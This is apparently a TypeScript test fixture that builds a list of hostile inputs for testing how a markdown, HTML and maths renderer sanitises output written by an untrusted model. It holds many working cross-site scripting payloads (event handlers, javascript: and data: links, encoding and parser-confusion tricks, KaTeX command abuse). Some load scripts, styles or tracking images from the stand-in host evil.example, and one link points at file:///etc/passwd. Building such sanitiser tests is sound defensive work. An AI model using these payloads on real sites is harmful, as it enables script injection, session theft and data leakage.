/** What a hostile model might write. `x()` is the trap: it must never be called. */

/** Elements and addresses that run something where they are let in. */
const PAYLOADS = [
  "<script>x()</script>",
  "<img src=x onerror=x()>",
  "<svg onload=x()>",
  "<svg><script>x()</script></svg>",
  "<iframe srcdoc='<script>parent.x()</script>'></iframe>",
  "<details open ontoggle=x()>",
  "<a href=javascript:x()>a</a>",
  "<math><mtext><script>x()</script></mtext></math>",
  "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/)}</style>",
  "[a](javascript:x())",
  "![a](https://evil.example/pixel.png)",
  "<javascript:x()>",
];

/** Places to put them. */
const PLACES: ((payload: string) => string)[] = [
  (payload) => `# ${payload}`,
  (payload) => `- ${payload}\n- [ ] ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload} | ${payload} |`,
  (payload) => `**${payload}** *${payload}* ~~${payload}~~`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `[${payload}](https://good.example)`,
  (payload) => `A note[^1].\n\n[^1]: ${payload}`,
  (payload) => `$${payload}$ and $$${payload}$$`,
  (payload) => `\`${payload}\` ${payload}`,
];

const HTML = String.raw`
<ScRiPt>x()</sCrIpT>
<script/x>x()</script>
<script src=https://evil.example/x.js></script>
<script src=data:text/javascript,x()></script>
<script>x()
<<script>x()//<</script>
<img src=x onerror=x()//
<img/src/onerror=x()>
<img src="x" onerror="x()">
<img src=x:x onerror=x()>
<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">
<image src=x onerror=x()>
<body onload=x()>
<body background="https://evil.example/a.png">
<input autofocus onfocus=x()>
<select autofocus onfocus=x()>
<textarea autofocus onfocus=x()>
<keygen autofocus onfocus=x()>
<video><source onerror=x()></video>
<video src=x onerror=x()>
<audio src=x onerror=x()>
<video poster=https://evil.example/p.png>
<marquee onstart=x()>
<object data=javascript:x()>
<object data="data:text/html,<script>x()</script>">
<embed src=javascript:x()>
<embed src="https://evil.example/x.swf">
<iframe src=javascript:x()>
<iframe src="https://evil.example/">
<frameset onload=x()>
<form action=javascript:x()><button>b</button></form>
<form><button formaction=javascript:x()>b</button></form>
<isindex action=javascript:x() type=submit>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/x>
<meta http-equiv=refresh content="0;url=javascript:x()">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href="https://evil.example/">
<div style="background:url(https://evil.example/a.png)">d</div>
<div style="width:expression(x())">d</div>
<div onmouseover=x() style=position:fixed;inset:0>d</div>
<table background="https://evil.example/t.png"><td background=javascript:x()>
<xss onfocus=x() tabindex=1 autofocus>
<svg/onload=x()>
<svg><animate onbegin=x() attributeName=x dur=1s>
<svg><a xlink:href=javascript:x()><text y=20>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>#x">
<svg><foreignObject><iframe onload=x()></foreignObject></svg>
<svg><image href=https://evil.example/a.svg>
<svg><set attributeName=href to=javascript:x()>
<math href=javascript:x()>m</math>
<math><annotation-xml encoding=text/html><img src=x onerror=x()></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=x()>">
<template><script>x()</script></template>
<plaintext><script>x()</script>
<xmp><script>x()</script></xmp>
<!--><img src=x onerror=x()>-->
<!-- --!><img src=x onerror=x()> -->
<![CDATA[<script>x()</script>]]>
<?xml-stylesheet href="javascript:x()"?>
<a href="&#106;avascript:x()">a</a>
<a href="java&Tab;script:x()">a</a>
<a href="java&NewLine;script:x()">a</a>
<a href="  javascript:x()">a</a>
<a href="vbscript:x()">a</a>
<a onclick=x() href=#>a</a>
<p id=alert name=alert>clobbering</p>
<form id=document><input name=cookie></form>
<listing>&lt;img src=x onerror=x()&gt;</listing>
<style><!--</style><img src=x onerror=x()>-->
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=x()&gt;">
<svg></p><style><a id="</style><img src=x onerror=x()>">
<br onclick=x()>
<br/><br /><BR x=y>
<custom-element is=script>x()</custom-element>
&lt;script&gt;x()&lt;/script&gt;
&#60;script&#62;x()&#60;/script&#62;
&amp;lt;script&amp;gt;x()
`;

const LINKS = String.raw`
[a](JaVaScRiPt:x())
[a](javascript&colon;x())
[a](&#106;avascript:x())
[a](&#x6A;&#x61;vascript:x())
[a](java&#10;script:x())
[a](java&Tab;script:x())
[a](&#1;javascript:x())
[a]( javascript:x())
[a](<javascript:x()>)
[a](<java
script:x()>)
[a](javascript:x() "title")
[a](javascript://%0ax())
[a](javascript:/*https://good.example*/x())
[a](vbscript:msgbox(1))
[a](data:text/html,<script>x()</script>)
[a](data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=)
[a](data:image/svg+xml,<svg onload=x()>)
[a](DATA:text/html,x)
[a](file:///etc/passwd)
[a](blob:https://good.example/1)
[a](filesystem:https://good.example/1)
[a](about:blank)
[a](view-source:javascript:x())
[a](feed:javascript:x())
[a](jar:javascript:x())
[a](ms-settings:x)
[a](tel:1)
[a](sms:1)
[a](//evil.example/x)
[a](/ai-chat/api/sessions/)
[a](#/settings)
[a](?ticket=1)
[a](\javascript:x())
[a](\\evil.example\x)
[a](http:javascript:x())
[a](https://good.example/" onmouseover="x())
[a](https://good.example/' onmouseover='x())
[a](https://good.example "x" onmouseover="x()")
[a](https://good.example '"><img src=x onerror=x()>')
[a](https://user:pw@good.example)
[a](https://good.example/%22%3E%3Cimg%20src=x%20onerror=x()%3E)
[a](mailto:x@y.example?body=<script>x()</script>)
[a](mailto:javascript:x())
[a](https://gооd.example)
[a][1]

[1]: javascript:x()
[a][2]

[2]: <java&#115;cript:x()> "t"
[__proto__]

[__proto__]: javascript:x()
[constructor][] [toString][] [hasOwnProperty][]
[^__proto__] [^constructor]

[^__proto__]: javascript:x()
[a](javascript:x()![b](https://evil.example/x.png))
[![a](javascript:x())](javascript:x())
[![a](https://evil.example/a.png)](https://good.example)
![a](javascript:x())
![a](data:image/svg+xml,<svg/onload=x()>)
![<img src=x onerror=x()>](https://evil.example/a.png)
![a](https://evil.example/a.png "onerror=x()")
![a](x"onerror="x())
![a][i]

[i]: https://evil.example/a.png
<javascript:x()>
<JAVASCRIPT:x()>
<data:text/html,<script>x()</script>>
<https://good.example/"onmouseover="x()>
<x@y.example"onclick="x()>
javascript:x()
https://good.example/"><script>x()</script>
https://good.example/'onmouseover=x()
http://javascript:x()
www.good.example"onmouseover=x()
x@y.example<script>x()</script>
ftp://evil.example/x
xmpp:x@y.example
`;

const MATHS = String.raw`
$\href{javascript:x()}{a}$
$\href{https://evil.example}{a}$
$\url{javascript:x()}$
$\includegraphics{https://evil.example/a.png}$
$$\includegraphics[height=1em]{https://evil.example/a.png}$$
$\htmlClass{evil}{a}$
$\htmlId{app}{a}$
$\htmlStyle{position:fixed;background:url(https://evil.example/)}{a}$
$\htmlData{x=y}{a}$
$\htmlData{katex-style=position:fixed}{a}$
$\html@mathml{<script>x()</script>}{a}$
$\text{<script>x()</script>}$
$\text{<img src=x onerror=x()>}$
$\unicode{<script>x()</script>}$
$\style{color:red}{a}$
$\class{a}{b}$
$\require{html}\href{javascript:x()}{a}$
$\def\a{\a\a}\a$
$\newcommand{\x}{\x\x}\x$
$\gdef\href#1#2{x}\href{a}{b}$
$\color{"><script>x()</script>}a$
$\textcolor{red;background:url(https://evil.example/)}{a}$
$\colorbox{url(https://evil.example/)}{a}$
$\fcolorbox{red}{url(x)}{a}$
$\rule{99999em}{99999em}$
$\kern{-9999em}\rule{9999em}{9999em}$
$\raisebox{9999em}{a}$
$\tag{<script>x()</script>}$
$$\tag{"onload=x()}a$$
$\char"3C script\char"3E$
$\operatorname{<svg onload=x()>}a$
$\vec{a}\overrightarrow{ab}\phase{-78^\circ}\cancel{a}\sqrt[3]{a}$
$\begin{array}{<script>}a\end{array}$
$\verb|<script>x()</script>|$
$\verb!\href{javascript:x()}{a}!$
\(\href{javascript:x()}{a}\)
\[\href{javascript:x()}{a}=1\]
$a<script>x()</script>b$
$a"onmouseover="x()$
`;

const FENCES = [
  '```<script>x()</script>\ncode\n```',
  '```"onmouseover="x()\ncode\n```',
  "```js onload=x()\ncode\n```",
  "```__proto__\ncode\n```",
  "```constructor\ncode\n```",
  "```../../evil\ncode\n```",
  "```https://evil.example/x.js\ncode\n```",
  "```html\n<script>x()</script>\n<img src=x onerror=x()>\n```",
  "```svg\n<svg onload=x()>\n```",
  "```markdown\n[a](javascript:x())\n```",
  "```javascript\nx();\n```",
  "```mermaid\ngraph TD; A[\"<img src=x onerror=x()>\"]\n```",
  "~~~html\n</code></pre><script>x()</script>\n~~~",
  "    </code></pre><script>x()</script>",
  "`</code><script>x()</script>`",
  "``` \u0000html\n<script>x()</script>\n```",
];

const ODD = [
  "<scr\u0000ipt>x()</script>",
  "<\u0000script>x()</script>",
  "<img src=x o\u0000nerror=x()>",
  "[a](java\u0000script:x())",
  "[a](java\u0001script:x())",
  "[a](\u0000javascript:x())",
  "[a](\u200bjavascript:x())",
  "[a](\ufeffjavascript:x())",
  "[a](\u00a0javascript:x())",
  "[a](java\tscript:x())",
  "[a](java\u2028script:x())",
  "[a](ｊavascript:x())",
  "[a](javaſcript:x())",
  "＜script＞x()＜/script＞",
  "\u202e<script>x()</script>",
  "\ud83d\ude00<script>x()</script>\ud83d\ude00",
  "<svg\u000conload=x()>",
  "<svg\u000bonload=x()>",
  "+ADw-script+AD4-x()+ADw-/script+AD4-",
  "\u001b[31m<script>x()</script>",
  "{{constructor.constructor('x()')()}}",
  "${x()} #{x()} <%= x() %>",
  "<a\r\nhref='javascript:x()'>a</a>",
  "a\u2028<script>x()</script>",
];

const lines = (text: string) => text.trim().split(/\n(?!\n|script:|\[(?:1|2|i|__proto__|\^__proto__)\]: )/).map((line) => line.trim());

export const HOSTILE: readonly string[] = [
  ...PAYLOADS,
  ...PAYLOADS.flatMap((payload) => PLACES.map((place) => place(payload))),
  ...lines(HTML),
  ...lines(LINKS),
  ...lines(MATHS),
  ...FENCES,
  ...ODD,
].filter((text) => text !== "");
